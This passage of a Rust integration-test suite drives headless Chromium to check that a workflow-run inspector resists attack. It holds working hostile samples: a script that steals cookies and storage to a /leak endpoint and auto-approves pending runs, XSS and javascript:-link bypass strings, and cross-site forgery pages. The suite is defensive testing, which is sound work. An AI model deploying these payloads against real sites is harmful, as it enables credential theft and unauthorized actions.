                && said.contains("artifact `page.html`: media_type is not a media type"),
            "{bad}: {said}"
        );
        assert!(!said.contains("\r\n"), "{bad}: {said}");
    }
    let out = host_command(dir.path(), &["check", &good], None)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
}
/// A web site of another origin (another port of 127.0.0.1): it serves
/// the pages it is given by path, answers anything else 204, and records
/// the request target of every request it reads (a script's beacon to
/// `/leak?…` shows there).
struct OtherSite {
    addr: std::net::SocketAddr,
    pages: std::sync::Arc<std::sync::Mutex<std::collections::HashMap<String, String>>>,
    seen: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
}

impl OtherSite {
    fn start() -> OtherSite {
        use std::io::{Read, Write};
        use std::sync::atomic::Ordering;
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let site = OtherSite {
            addr: listener.local_addr().unwrap(),
            pages: Default::default(),
            seen: Default::default(),
            stop: Default::default(),
        };
        let (pages, seen, stop) = (site.pages.clone(), site.seen.clone(), site.stop.clone());
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                let mut stream = match listener.accept() {
                    Ok((stream, _)) => stream,
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                        std::thread::sleep(Duration::from_millis(5));
                        continue;
                    }
                    Err(_) => return,
                };
                stream.set_nonblocking(false).unwrap();
                stream
                    .set_read_timeout(Some(Duration::from_secs(5)))
                    .unwrap();
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).unwrap_or(0) == 1 {
                    head.push(byte[0]);
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                let target = head.split(' ').nth(1).unwrap_or("").to_string();
                seen.lock().unwrap().push(target.clone());
                let page = pages.lock().unwrap().get(&target).cloned();
                let response = match page {
                    Some(html) => format!(
                        "HTTP/1.1 200 OK\r\ncontent-type: text/html; charset=utf-8\r\n\
                         content-length: {}\r\nconnection: close\r\n\r\n{html}",
                        html.len()
                    ),
                    None => "HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n".into(),
                };
                let _ = stream.write_all(response.as_bytes());
            }
        });
        site
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }

    fn page(&self, path: &str, html: String) {
        self.pages.lock().unwrap().insert(path.into(), html);
    }

    /// The request targets read that start with `prefix`.
    fn seen(&self, prefix: &str) -> Vec<String> {
        let seen = self.seen.lock().unwrap();
        seen.iter()
            .filter(|t| t.starts_with(prefix))
            .cloned()
            .collect()
    }
}

impl Drop for OtherSite {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
    }
}

/// The run inspector in a real Chromium, driven through chromedriver's
/// WebDriver protocol (plain HTTP/JSON): the research run's page shows
/// every node it ran as completed and the report rendered; a waiting run
/// is answered from its page and completes; a run's HTML and SVG
/// artifacts, opened from its page, run no script (neither reading what
/// the page holds nor calling the API), and its report's `javascript:`
/// links are no links; another site's page cannot answer an approval;
/// with a token, the pages sign in and keep it nowhere a script reads.
/// Screenshots go to `target/serve-screenshots/`. Without Chromium the
/// test says so and passes, except under `CI=true`, where it fails.
mod browser {
    use super::*;
    use base64::Engine as _;

    const ELEMENT: &str = "element-6066-11e4-a52e-4f735466cecf";

    struct Driver {
        child: Child,
        base: String,
        session: String,
        client: reqwest::blocking::Client,
    }

    impl Driver {
        /// chromedriver on a free port, with a headless Chromium session;
        /// None when either is not installed (outside CI).
        fn start() -> Option<Driver> {
            let found = |name: &str| {
                std::env::var_os("PATH").is_some_and(|path| {
                    std::env::split_paths(&path).any(|dir| dir.join(name).is_file())
                })
            };
            if !found("chromedriver") || !found("chromium") {
                let message = "Chromium and chromedriver are not installed: `apt-get install \
                               chromium chromium-driver` (.ci/run installs them)";
                assert!(std::env::var("CI").as_deref() != Ok("true"), "{message}");
                eprintln!("skipping the browser test: {message}");
                return None;
            }
            let port = free_port();
            let child = std::process::Command::new("chromedriver")
                .arg(format!("--port={port}"))
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .expect("start chromedriver");
            let client = reqwest::blocking::Client::builder()
                .timeout(Duration::from_secs(60))
                .build()
                .unwrap();
            let base = format!("http://127.0.0.1:{port}");
            let deadline = Instant::now() + Duration::from_secs(30);
            while client.get(format!("{base}/status")).send().is_err() {
                assert!(Instant::now() < deadline, "chromedriver did not start");
                std::thread::sleep(Duration::from_millis(100));
            }
            let mut driver = Driver {
                child,
                base,
                session: String::new(),
                client,
            };
            let created = driver.call(
                "POST",
                "/session",
                json!({"capabilities": {"alwaysMatch": {
                    "browserName": "chrome",
                    "goog:chromeOptions": {
                        "binary": "/usr/bin/chromium",
                        "args": ["--headless=new", "--no-sandbox", "--disable-gpu",
                                 "--disable-dev-shm-usage", "--window-size=1400,1100"],
                    },
                }}}),
            );
            driver.session = created["sessionId"].as_str().unwrap().to_string();
            Some(driver)
        }

        fn call(&self, method: &str, path: &str, body: Value) -> Value {
            self.try_call(method, path, body)
                .unwrap_or_else(|value| panic!("WebDriver {method} {path}: {value}"))
        }

        /// As `call`, with WebDriver's error answer as the error.
        fn try_call(&self, method: &str, path: &str, body: Value) -> Result<Value, Value> {
            let url = if self.session.is_empty() {
                format!("{}{path}", self.base)
            } else {
                format!("{}/session/{}{path}", self.base, self.session)
            };
            let request = match method {
                "GET" => self.client.get(url),
                "DELETE" => self.client.delete(url),
                _ => self
                    .client
                    .post(url)
                    .header("content-type", "application/json")
                    .body(body.to_string()),
            };
            let response = request.send().expect("chromedriver answers");
            let ok = response.status().is_success();
            let value: Value = serde_json::from_str(&response.text().unwrap()).unwrap();
            let value = value.get("value").cloned().unwrap_or(value);
            if ok { Ok(value) } else { Err(value) }
        }

        fn open(&self, url: &str) {
            self.call("POST", "/url", json!({ "url": url }));
        }

        fn script(&self, script: &str) -> Value {
            self.call(
                "POST",
                "/execute/sync",
                json!({"script": script, "args": []}),
            )
        }

        /// Waits until `script` returns true.
        fn until(&self, what: &str, script: &str) {
            let deadline = Instant::now() + Duration::from_secs(60);
            while self.script(script) != json!(true) {
                assert!(Instant::now() < deadline, "the page never showed {what}");
                std::thread::sleep(Duration::from_millis(200));
            }
        }

        /// Clicks the element `css` finds. The pages redraw what they poll
        /// for, so the element found may be replaced before the click
        /// reaches it: a click WebDriver refuses as stale did not happen,
        /// and is tried again on the element found anew.
        fn click(&self, css: &str) {
            let deadline = Instant::now() + Duration::from_secs(10);
            loop {
                let found = self.call(
                    "POST",
                    "/element",
                    json!({"using": "css selector", "value": css}),
                );
                let id = found[ELEMENT]
                    .as_str()
                    .unwrap_or_else(|| panic!("no element {css}: {found}"))
                    .to_string();
                match self.try_call("POST", &format!("/element/{id}/click"), json!({})) {
                    Ok(_) => return,
                    Err(error)
                        if error["error"] == "stale element reference"
                            && Instant::now() < deadline =>
                    {
                        std::thread::sleep(Duration::from_millis(100));
                    }
                    Err(error) => panic!("WebDriver click on {css}: {error}"),
                }
            }
        }

        fn screenshot(&self, name: &str) {
            let png = self.call("GET", "/screenshot", Value::Null);
            let bytes = base64::engine::general_purpose::STANDARD
                .decode(png.as_str().unwrap())
                .unwrap();
            let dir = repo_root().join("target/serve-screenshots");
            std::fs::create_dir_all(&dir).unwrap();
            std::fs::write(dir.join(format!("{name}.png")), bytes).unwrap();
        }
    }

    impl Drop for Driver {
        fn drop(&mut self) {
            if !self.session.is_empty() {
                let _ = self
                    .client
                    .delete(format!("{}/session/{}", self.base, self.session))
                    .send();
            }
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }

    /// A streaming run's page shows its text as it comes: the cut first
    /// attempt's struck out, then the retry's.
    #[test]
    fn the_run_page_shows_a_streaming_nodes_text_as_it_comes() {
        use skillhost_tests::fake_llm_server::{FakeLlmServer, FakeReply};
        let Some(driver) = Driver::start() else {
            return;
        };
        let dir = tempfile::tempdir().unwrap();
        let llm = FakeLlmServer::start();
        llm.configure_user(dir.path());
        // The first attempt's stream waits for the page to follow the run:
        // tokens go to the clients following when they are sent, and a page
        // that loads late on a busy machine would see none of them.
        let following = held_stream(
            &llm,
            &["first ", "try "],
            Duration::from_millis(1500),
            false,
        );
        // A model's text is the page's text, never its markup.
        llm.push(FakeReply::openai_stream(
            &[
                "words ",
                "as ",
                "they ",
                "<img src=x onerror=\"document.title='pwned'\">come",
            ],
            Duration::from_millis(1000),
            true,
        ));
        let scenario = crate::streaming::scenario(dir.path());
        let server = Server::start(
            dir.path(),
            None,
            &["--scenarios", scenario.to_str().unwrap()],
        );
        open_when_followed(&driver, &server, "stream", &following);
        driver.until(
            "the first attempt's text",
            "const t = document.querySelector('#tokens .token-text'); \
             return !!t && t.textContent.startsWith('first')",
        );
        driver.until(
            "the first attempt's text struck out",
            "return !!document.querySelector('#tokens .token-text.discarded')",
        );
        driver.until(
            "the retry's text, before the run ends",
            "const t = document.querySelector('#tokens .token-text'); \
             return t.textContent.startsWith('words ') && !t.classList.contains('discarded') \
             && document.body.dataset.loaded !== 'completed'",
        );
        driver.until(
            "the whole text and the run completed",
            "return document.querySelector('#tokens .token-text').textContent === \
             'words as they <img src=x onerror=\"document.title=\\'pwned\\'\">come' \
             && document.body.dataset.loaded === 'completed'",
        );
        assert_eq!(
            driver.script("return document.querySelectorAll('#tokens img').length"),
            json!(0),
            "a token's markup became an element"
        );
        assert_ne!(
            driver.script("return document.title"),
            json!("pwned"),
            "a token's markup ran"
        );
        driver.screenshot("run-streaming");
    }

    /// Queues on `llm` a stream of `texts` (`pause` before each), held until
    /// the flag it gives back is set.
    fn held_stream(
        llm: &skillhost_tests::fake_llm_server::FakeLlmServer,
        texts: &[&str],
        pause: Duration,
        complete: bool,
    ) -> std::sync::Arc<std::sync::atomic::AtomicBool> {
        use skillhost_tests::fake_llm_server::FakeReply;
        let following = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        llm.push(FakeReply::Held {
            until: following.clone(),
            reply: Box::new(FakeReply::openai_stream(texts, pause, complete)),
        });
        following
    }

    /// Starts a run of `scenario` on `server` and opens its page; once the
    /// page follows the run's events, lets the provider's held reply go
    /// (`following`). The run's id.
    fn open_when_followed(
        driver: &Driver,
        server: &Server,
        scenario: &str,
        following: &std::sync::atomic::AtomicBool,
    ) -> String {
        let (_, started) = server.post("/api/runs", &json!({"scenario": scenario}));
        let id = started["id"].as_str().unwrap().to_string();
        driver.open(&server.url(&format!("/runs/{id}")));
        driver.until(
            "the run's event stream open",
            "const b = document.querySelector('#live'); return !!b && b.classList.contains('on')",
        );
        following.store(true, std::sync::atomic::Ordering::Relaxed);
        id
    }

    /// A subgraph's child run's text shows on its parent's run page, in a
    /// row of its own named by the end of the child's run id and its node.
    #[test]
    fn the_run_page_shows_a_subgraphs_text_under_its_child_run() {
        use skillhost_tests::fake_llm_server::FakeLlmServer;
        let Some(driver) = Driver::start() else {
            return;
        };
        let dir = tempfile::tempdir().unwrap();
        let llm = FakeLlmServer::start();
        llm.configure_user(dir.path());
        // Held until the page follows the run (as above).
        let following = held_stream(&llm, &["child ", "text"], Duration::from_millis(300), true);
        let parent = crate::streaming::parent_scenario(dir.path());
        let server = Server::start(dir.path(), None, &["--scenarios", parent.to_str().unwrap()]);
        let id = open_when_followed(&driver, &server, "parent", &following);
        driver.until(
            "the child run's text",
            "const t = document.querySelector('#tokens .token-text'); \
             return !!t && t.textContent === 'child text'",
        );
        let label = driver.script("return document.querySelector('#tokens p code').textContent");
        let label = label.as_str().unwrap();
        let (child, node) = label.split_once('/').expect("CHILD/node");
        assert_eq!(node, "write", "{label}");
        assert_eq!(child.len(), 8, "{label}");
        let (status, run) = server.get(&format!("/api/runs/{id}"));
        assert_eq!(status, 200, "{run}");
        let child_id = run["children"][0]["id"].as_str().expect("a child run");
        assert!(
            child_id.ends_with(child),
            "{label} is not child {child_id}'s"
        );
        assert!(!id.ends_with(child), "{label}");
    }

    #[test]
    fn the_run_inspector_in_chromium() {
        let Some(driver) = Driver::start() else {
            return;
        };
        let dir = tempfile::tempdir().unwrap();
        let approval = approval();
        let server = Server::start(dir.path(), None, &["--scenarios", &approval]);
        let out = host_command(
            dir.path(),
            &[
                "run",
                "research",
                "--input",
                r#"{"query": "retrieval augmented generation"}"#,
            ],
            None,
        )
        .current_dir(repo_root())
        .output()
        .unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        let (_, runs) = server.get("/api/runs?scenario=research");
        let rid = runs["runs"][0]["id"].as_str().unwrap().to_string();

        // The runs list shows it.
        driver.open(&server.url("/"));
        driver.until(
            "the research run in the list",
            &format!("return !!document.querySelector('tr[data-run=\"{rid}\"]')"),
        );
        driver.screenshot("runs-list");

        // Its page: every node it ran completed, the rest pending; the
        // report rendered.
        driver.open(&server.url(&format!("/runs/{rid}")));
        driver.until(
            "the run loaded",
            "return document.body.dataset.loaded === 'completed'",
        );
        let statuses = driver.script(
            "return Object.fromEntries([...document.querySelectorAll('svg.graph .node')]\
             .map(n => [n.dataset.node, n.dataset.status]))",
        );
        for node in [
            "paper_discovery",
            "discovery_validation",
            "paper_summarize",
            "paper_compare",
            "claim_synthesis",
            "report_writer",
            "done",
        ] {
            assert_eq!(statuses[node], "completed", "{node}: {statuses}");
        }
        assert_eq!(statuses["failure_handler"], "pending", "{statuses}");
        let report = driver.script(
            "const r = document.querySelector('.report'); \
             return r ? [r.querySelectorAll('h1,h2').length, r.innerText] : null",
        );
        assert!(report[0].as_u64().unwrap() >= 1, "{report}");
        assert!(report[1].as_str().unwrap().contains("etrieval"), "{report}");
        let cited = driver.script("return document.querySelectorAll('#citations tbody tr').length");
        assert!(cited.as_u64().unwrap() >= 1, "no citation rows");
        driver.screenshot("research-run");

        // A run started from the form the list page generates from the
        // scenario's [input], then answered from its page.
        driver.open(&server.url("/"));
        driver.until(
            "the start form of `approval`",
            "return !!document.querySelector('form[data-scenario=\"approval\"] input[name=\"action\"]')",
        );
        driver.script(
            "document.querySelector('form[data-scenario=\"approval\"] input[name=\"action\"]').value = 'ship'",
        );
        driver.click("form[data-scenario=\"approval\"] button");
        driver.until(
            "the new run's page",
            "return location.pathname.startsWith('/runs/')",
        );
        let path = driver.script("return location.pathname");
        let id = path
            .as_str()
            .unwrap()
            .trim_start_matches("/runs/")
            .to_string();
        let detail = poll(&server, &format!("/api/runs/{id}"), |d| {
            d["run"]["status"] == "waiting"
        });
        assert_eq!(detail["run"]["input"]["action"], "ship");
        driver.open(&server.url(&format!("/runs/{id}")));
        driver.until(
            "the answer form",
            "return !document.querySelector('#waiting').hidden && \
             !!document.querySelector('#answer button')",
        );
        driver.screenshot("approval-waiting");
        driver.click("#answer button");
        driver.until(
            "the answered run completed",
            "return document.body.dataset.loaded === 'completed'",
        );
        let (_, detail) = server.get(&format!("/api/runs/{id}"));
        assert_eq!(detail["run"]["status"], "completed");
        assert_eq!(detail["waits"][0]["answer"]["approved"], true);
        assert_eq!(detail["waits"][0]["answered_by"], "api");
        driver.screenshot("approval-answered");
    }

    /// Every box and end of the graph on the page: the edge labels' boxes,
    /// the nodes' boxes, and each edge's first and last point with the
    /// boxes of its source (the `on failure` entry when it has none) and
    /// its target, as Chromium lays them out.
    const GRAPH_GEOMETRY: &str = "const svg = document.querySelector('svg.graph'); \
        const box = (e) => { const b = e.getBBox(); return [b.x, b.y, b.width, b.height]; }; \
        const node = (id) => svg.querySelector(`g.node[data-node=\"${CSS.escape(id)}\"] rect`); \
        return { \
          labels: [...svg.querySelectorAll('text.edge-label')].map((t) => [t.textContent, box(t)]), \
          nodes: [...svg.querySelectorAll('g.node')].map((g) => [g.dataset.node, box(g.querySelector('rect'))]), \
          edges: [...svg.querySelectorAll('path.edge')].map((p) => { \
            const a = p.getPointAtLength(0), b = p.getPointAtLength(p.getTotalLength()); \
            const from = p.dataset.from ? node(p.dataset.from) : svg.querySelector('g.entry rect'); \
            return [p.dataset.from + ' -> ' + p.dataset.to, [a.x, a.y], box(from), [b.x, b.y], box(node(p.dataset.to))]; \
          }), \
        };";

    fn rect(v: &Value) -> [f64; 4] {
        let n = |i: usize| v[i].as_f64().unwrap();
        [n(0), n(1), n(2), n(3)]
    }

    fn overlap(a: [f64; 4], b: [f64; 4]) -> bool {
        a[0] < b[0] + b[2] && b[0] < a[0] + a[2] && a[1] < b[1] + b[3] && b[1] < a[1] + a[3]
    }

    /// Within the box or on its border (a pixel's tolerance).
    fn at_box(p: &Value, b: [f64; 4]) -> bool {
        let (x, y) = (p[0].as_f64().unwrap(), p[1].as_f64().unwrap());
        x >= b[0] - 1.0 && x <= b[0] + b[2] + 1.0 && y >= b[1] - 1.0 && y <= b[1] + b[3] + 1.0
    }

    /// Every example's graph on its scenario page, in Chromium: no two
    /// edge labels overlap (nor a label and a node), and every edge
    /// starts at its source's box and ends at its target's. The runs
    /// list shows the scenarios that cannot run with their reasons as
    /// text (a hostile one's markup is not run).
    #[test]
    fn every_example_graph_has_apart_labels_and_edges_from_their_nodes() {
        let Some(driver) = Driver::start() else {
            return;
        };
        let dir = tempfile::tempdir().unwrap();
        let broken = broken_scenarios(dir.path()).display().to_string();
        let server = Server::start(dir.path(), None, &["--scenarios", "examples", &broken]);

        driver.open(&server.url("/"));
        driver.until(
            "the unavailable research-llm",
            "return !!document.querySelector('.scenario.unavailable[data-scenario=\"research-llm\"] pre.reason')",
        );
        let shown = driver.script(
            "return [...document.querySelectorAll('.scenario.unavailable')].map((d) => \
             [d.dataset.scenario, d.querySelector('pre.reason').textContent, !!d.querySelector('form')])",
        );
        let shown = shown.as_array().unwrap();
        assert_eq!(shown.len(), 4, "{shown:?}");
        for entry in shown {
            assert_eq!(entry[2], false, "a form for {entry}");
        }
        let hostile = shown.iter().find(|e| e[0] == HOSTILE_NAME).unwrap();
        assert!(
            hostile[1]
                .as_str()
                .unwrap()
                .contains("x<img src=x onerror=alert(1)>/scenario.toml"),
            "{hostile}"
        );
        assert_eq!(
            driver.script(
                "return document.querySelectorAll('#scenarios img, #scenarios script').length"
            ),
            0
        );
        assert_ne!(driver.script("return document.title"), "pwned");
        assert!(
            driver.script("return !!document.querySelector('form[data-scenario=\"approval\"]')")
                == true
        );
        driver.script("document.querySelector('.scenario.unavailable').scrollIntoView()");
        driver.screenshot("scenarios-unavailable");

        let (_, listed) = server.get("/api/scenarios");
        let names: Vec<String> = listed["scenarios"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s["name"].as_str().unwrap().to_string())
            .filter(|n| n != HOSTILE_NAME && n != "cycle" && n != "outside")
            .collect();
        assert_eq!(names.len(), example_dirs().len(), "{names:?}");
        for name in &names {
            driver.open(&server.url(&format!("/scenarios/{name}")));
            driver.until("the graph", "return !!document.querySelector('svg.graph')");
            let geometry = driver.script(GRAPH_GEOMETRY);
            let labels = geometry["labels"].as_array().unwrap();
            let nodes = geometry["nodes"].as_array().unwrap();
            let edges = geometry["edges"].as_array().unwrap();
            assert!(!nodes.is_empty() && !edges.is_empty(), "{name}: {geometry}");
            for (i, a) in labels.iter().enumerate() {
                for b in &labels[i + 1..] {
                    assert!(
                        !overlap(rect(&a[1]), rect(&b[1])),
                        "{name}: labels {a} and {b} overlap"
                    );
                }
                for n in nodes {
                    assert!(
                        !overlap(rect(&a[1]), rect(&n[1])),
                        "{name}: label {a} overlaps node {n}"
                    );
                }
            }
            for e in edges {
                assert!(
                    at_box(&e[1], rect(&e[2])),
                    "{name}: edge {e} does not start at its source"
                );
                assert!(
                    at_box(&e[3], rect(&e[4])),
                    "{name}: edge {e} does not end at its target"
                );
            }
            if name == "approval" {
                assert!(labels.len() >= 7, "{labels:?}");
                driver.screenshot("graph-approval");
            }
        }
    }

    /// What a run's HTML page or SVG picture would do on the inspector's
    /// origin: mark that it ran, read what the page keeps (its storage and
    /// cookies) and send it to `site`, and answer every waiting run.
    fn hostile_script(site: &OtherSite) -> String {
        format!(
            "document.title = 'ran'; \
             const leak = (what) => {{ new Image().src = '{leak}?' + encodeURIComponent(what); \
               fetch('{leak}?' + encodeURIComponent(what), {{mode: 'no-cors'}}).catch(() => {{}}); }}; \
             let kept = ''; \
             try {{ kept = JSON.stringify(Object.assign({{}}, localStorage)); }} catch (e) {{ kept = 'no storage'; }} \
             leak('ran cookie=' + document.cookie + ' storage=' + kept); \
             fetch('/api/runs?status=waiting').then((r) => r.json()).then((page) => {{ \
               leak('runs=' + JSON.stringify(page)); \
               for (const run of page.runs) fetch('/api/runs/' + run.id + '/answer', {{ \
                 method: 'POST', headers: {{'Content-Type': 'application/json'}}, \
                 body: JSON.stringify({{answer: {{approved: true}}, by: 'artifact'}}) }}); \
             }}).catch((e) => leak('failed ' + e));",
            leak = site.url("/leak")
        )
    }

    /// Runs the hostile scenario on the server's database: an HTML page
    /// and an SVG picture with `script`, and a report whose links try
    /// every way to be `javascript:`.
    fn hostile_run(dir: &Path, server: &Server, script: &str) -> String {
        let file = hostile_scenario(dir);
        let input = json!({
            "html": format!("<!doctype html><title>report</title><p>an HTML report</p>\
                             <script>{script}</script><img src=x onerror=\"{script}\">"),
            "svg": format!("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{script}\" \
                            width=\"100\" height=\"100\"><script>{script}</script>\
                            <circle cx=\"50\" cy=\"50\" r=\"40\"/></svg>"),
            "markdown": "# Hostile report\n\n\
                 [click me](javascript:document.title='ran') \
                 [tab](jav&#x09;ascript:document.title='ran') \
                 [entity](jav&#x61;script:document.title='ran') \
                 [spaced](<  javascript:document.title='ran'>) \
                 ![image](javascript:document.title='ran') \
                 <javascript:document.title='ran'> \
                 [data](data:text/html,ran) \
                 [vb](vbscript:msgbox) \
                 [web](https://example.com/ok) [mail](mailto:a@example.com) [relative](other.md)\n",
        });
        let out = host_command(dir, &["run", &file, "--input", &input.to_string()], None)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        let (_, runs) = server.get_with("/api/runs?scenario=hostile", "Bearer s3cret-token");
        runs["runs"][0]["id"].as_str().unwrap().to_string()
    }

    /// Opens the run page, checks its report, and opens each artifact with
    /// script from its link: none may run, leak or answer `waiting`.
    fn artifacts_run_no_script(
        driver: &Driver,
        server: &Server,
        site: &OtherSite,
        dir: &Path,
        run: &str,
        waiting: &str,
    ) {
        driver.open(&server.url(&format!("/runs/{run}")));
        driver.until(
            "the run loaded",
            "return document.body.dataset.loaded === 'completed'",
        );
        // The report: only the web, mail and relative links are links.
        let links = driver.script(
            "const r = document.querySelector('section[data-artifact=\"report.md\"] .report'); \
             return [[...r.querySelectorAll('[href],[src]')].map((e) => e.getAttribute('href') || e.getAttribute('src')), \
                     r.querySelectorAll('.link-removed').length, r.innerText]",
        );
        assert_eq!(
            links[0],
            json!(["https://example.com/ok", "mailto:a@example.com", "other.md"]),
            "{links}"
        );
        assert_eq!(links[1], 8, "{links}");
        assert!(links[2].as_str().unwrap().contains("click me"), "{links}");
        driver.click("section[data-artifact=\"report.md\"] .link-removed");
        std::thread::sleep(Duration::from_millis(300));
        assert_ne!(driver.script("return document.title"), "ran");
        driver.screenshot("hostile-run");

        for artifact in ["page.html", "picture.svg"] {
            driver.open(&server.url(&format!("/runs/{run}")));
            driver.until(
                "the run loaded",
                "return document.body.dataset.loaded === 'completed'",
            );
            driver.click(&format!("section[data-artifact=\"{artifact}\"] h3 a"));
            driver.until(
                &format!("{artifact} opened"),
                &format!("return location.pathname.endsWith('/{artifact}')"),
            );
            // Long enough for a script, its requests and its beacons.
            std::thread::sleep(Duration::from_secs(2));
            assert_ne!(driver.script("return document.title"), "ran", "{artifact}");
            driver.screenshot(&format!("hostile-{}", artifact.replace('.', "-")));
            assert_eq!(site.seen("/leak"), Vec::<String>::new(), "{artifact} ran");
            assert_eq!(stored_status(dir, None, waiting), "waiting", "{artifact}");
        }
    }

    #[test]
    fn a_run_cannot_script_the_inspector_nor_another_site_answer_an_approval() {
        let Some(driver) = Driver::start() else {
            return;
        };
        let dir = tempfile::tempdir().unwrap();
        let approval = approval();
        let server = Server::start(dir.path(), None, &["--scenarios", &approval]);
        let site = OtherSite::start();
        let waiting = waiting_run(&server);
        let run = hostile_run(dir.path(), &server, &hostile_script(&site));
        artifacts_run_no_script(&driver, &server, &site, dir.path(), &run, &waiting);

        // Another site's page: a no-cors text/plain POST, a CORS JSON POST,
        // and a form posting text/plain that spells JSON.
        let target = server.url(&format!("/api/runs/{waiting}/answer"));
        let body = json!({"answer": {"approved": true}, "by": "elsewhere"}).to_string();
        site.page(
            "/fetch",
            format!(
                "<!doctype html><title>elsewhere</title><script>\
                 const body = {body:?}; \
                 Promise.allSettled([\
                   fetch('{target}', {{method: 'POST', mode: 'no-cors', headers: {{'Content-Type': 'text/plain'}}, body}}), \
                   fetch('{target}', {{method: 'POST', headers: {{'Content-Type': 'application/json'}}, body}}), \
                 ]).then((r) => {{ document.title = 'sent ' + r.map((x) => x.status).join(' '); }});\
                 </script>"
            ),
        );
        site.page(
            "/form",
            format!(
                "<!doctype html><title>elsewhere</title>\
                 <form method=post enctype=text/plain action='{target}'>\
                 <input name='{{\"answer\": {{\"approved\": true}}, \"by\": \"form\", \"x\": \"' value='\"}}'>\
                 </form><script>document.forms[0].submit();</script>"
            ),
        );
        driver.open(&site.url("/fetch"));
        driver.until(
            "the other site's requests sent",
            "return document.title.startsWith('sent')",
        );
        std::thread::sleep(Duration::from_millis(500));
        assert_eq!(stored_status(dir.path(), None, &waiting), "waiting");
        driver.open(&site.url("/form"));
        driver.until(
            "the form posted",
            &format!("return location.href.startsWith('{}')", server.url("/")),
        );
        std::thread::sleep(Duration::from_millis(500));
        driver.screenshot("form-from-elsewhere");
        assert_eq!(stored_status(dir.path(), None, &waiting), "waiting");
        let (_, detail) = server.get(&format!("/api/runs/{waiting}"));
        assert_eq!(detail["waits"][0]["answer"], Value::Null, "{detail}");
    }

    #[test]
    fn with_a_token_the_pages_sign_in_and_keep_it_where_no_script_reads() {
        let Some(driver) = Driver::start() else {
            return;
        };
        let dir = tempfile::tempdir().unwrap();
        let approval = approval();
        let server = Server::start(
            dir.path(),
            None,
            &["--scenarios", &approval, "--token", "s3cret-token"],
        );
        let site = OtherSite::start();
        let start = json!({"scenario": "approval"}).to_string().into_bytes();
        let mut ids = Vec::new();
        for _ in 0..2 {
            let reply = server.post_raw("/api/runs", start.clone(), Some("s3cret-token"));
            assert_eq!(reply.0, 201, "{reply:?}");
            ids.push(reply.1["id"].as_str().unwrap().to_string());
        }
        for id in &ids {
            let deadline = Instant::now() + Duration::from_secs(60);
            while stored_status(dir.path(), None, id) != "waiting" {
                assert!(Instant::now() < deadline, "run {id} never waited");
                std::thread::sleep(Duration::from_millis(200));
            }
        }

        // Not signed in: the list shows no run and asks for the token; a
        // run's page is the sign-in page.
        driver.open(&server.url("/"));
        driver.until(
            "the sign-in form",
            "return !document.querySelector('#signin').hidden",
        );
        assert_eq!(
            driver.script("return document.querySelectorAll('#runs tbody tr').length"),
            0
        );
        driver.open(&server.url(&format!("/runs/{}", ids[0])));
        driver.until(
            "the sign-in page",
            "return document.body.dataset.page === 'signin' && !document.querySelector('#signin').hidden",
        );
        // A wrong token is refused; the right one signs in and the page
        // reloads as the run's.
        driver.script("document.querySelector('#token').value = 'guess'");
        driver.click("#signin button");
        driver.until(
            "the refusal",
            "return document.querySelector('#signin-result').textContent.includes('wrong')",
        );
        driver.script("document.querySelector('#token').value = 's3cret-token'");
        driver.click("#signin button");
        driver.until(
            "the run page, signed in",
            "return document.body.dataset.page === 'run' && document.body.dataset.loaded === 'waiting'",
        );
        driver.screenshot("signed-in-run");
        // The token is nowhere a script reads: no storage, no readable cookie.
        let kept = driver.script(
            "return [Object.keys(localStorage).length, Object.keys(sessionStorage).length, document.cookie]",
        );
        assert_eq!(kept, json!([0, 0, ""]), "{kept}");
        // The pages work: answered from the page, the run completes.
        driver.until(
            "the answer form",
            "return !document.querySelector('#waiting').hidden && !!document.querySelector('#answer button')",
        );
        driver.click("#answer button");
        driver.until(
            "the answered run completed",
            "return document.body.dataset.loaded === 'completed'",
        );
        // The runs list too.
        driver.open(&server.url("/"));
        driver.until(
            "the runs in the list",
            &format!(
                "return !!document.querySelector('tr[data-run=\"{}\"]')",
                ids[1]
            ),
        );
        assert!(driver.script("return document.querySelector('#signin').hidden") == json!(true));

        // A run's artifacts, opened by the signed-in browser, still run no
        // script and reach neither the token nor the API.
        let run = hostile_run(dir.path(), &server, &hostile_script(&site));
        artifacts_run_no_script(&driver, &server, &site, dir.path(), &run, &ids[1]);

        // Signing out: the list asks for the token again.
        driver.open(&server.url("/"));
        driver.until(
            "signed in",
            "return !document.querySelector('#signout').hidden",
        );
        driver.click("#signout");
        driver.until(
            "the sign-in form again",
            "return !document.querySelector('#signin').hidden",
        );
    }
}

/// A `tools/call` to a `host mcp --http --stateless` server, as JSON-RPC
/// over one POST; the result (or the error) of the answer.
fn mcp_call(client: &reqwest::blocking::Client, url: &str, name: &str, arguments: Value) -> Value {
    let response = client
        .post(url)
        .header("accept", "application/json, text/event-stream")
        .header("content-type", "application/json")
        .body(
            json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                   "params": {"name": name, "arguments": arguments}})
            .to_string(),
        )
        .send()
        .unwrap_or_else(|e| panic!("`host mcp` did not answer: {e}"));
    let text = response.text().unwrap();
    // A JSON body, or an event stream whose `data:` line is the answer.
    let body = text
        .lines()
        .filter_map(|line| line.strip_prefix("data:"))
        .map(str::trim)
        .find(|data| data.contains("\"jsonrpc\""))
        .unwrap_or(text.trim());
    let answer: Value =
        serde_json::from_str(body).unwrap_or_else(|e| panic!("not JSON-RPC ({e}): {text}"));
    answer
        .get("result")
        .or_else(|| answer.get("error"))
        .cloned()
